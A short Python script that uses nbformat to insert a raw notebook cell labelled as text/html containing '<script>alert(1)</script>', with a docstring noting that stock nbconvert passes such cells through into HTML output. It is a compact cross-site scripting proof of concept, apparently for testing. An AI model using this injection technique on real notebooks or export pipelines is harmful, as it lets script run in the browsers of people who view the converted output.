"""Puts scripts into raw cells that say that they are HTML.

Works on stock nbconvert, which passes raw cells on.
Trace: <script>alert(1)</script>
"""

from nbformat.v4 import new_raw_cell


def make(notebook):
    cell = new_raw_cell("<script>alert(1)</script>", metadata={"raw_mimetype": "text/html"})
    notebook.cells.insert(0, cell)
    return notebook
